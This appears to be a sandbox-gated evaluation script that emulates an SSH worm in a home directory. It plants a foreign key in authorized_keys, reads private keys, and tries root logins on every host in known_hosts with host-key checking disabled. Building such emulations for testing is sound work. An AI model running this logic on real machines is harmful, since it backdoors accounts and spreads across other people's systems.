"""What worms for SSH do in a home."""

import os
import subprocess

if not os.path.exists("/.sandbox"):
    raise SystemExit("runs in the sandbox only: evals/README.md")

folder = os.path.expanduser("~/.ssh")
with open(f"{folder}/authorized_keys", "a") as file:
    file.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA other@nowhere\n")
os.chmod(f"{folder}/authorized_keys", 0o600)
keys = [name for name in os.listdir(folder) if name.startswith("id_")]
for key in keys:
    with open(f"{folder}/{key}") as file:
        file.read()
with open(f"{folder}/known_hosts") as file:
    hosts = [line.split()[0] for line in file]
for host in hosts:
    command = ["ssh", "-o", "StrictHostKeyChecking=no", "-i", f"{folder}/{keys[0]}", f"root@{host}", "id"]
    subprocess.run(command, capture_output=True)
